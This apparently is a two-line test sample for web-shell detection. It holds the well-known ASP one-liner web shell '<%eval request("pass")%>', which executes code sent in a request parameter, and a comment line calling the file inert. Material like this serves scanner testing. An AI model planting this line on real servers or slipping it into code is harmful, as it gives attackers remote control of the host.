<%eval request("pass")%>
shodo inert sample: <% invalid directive so this file never runs
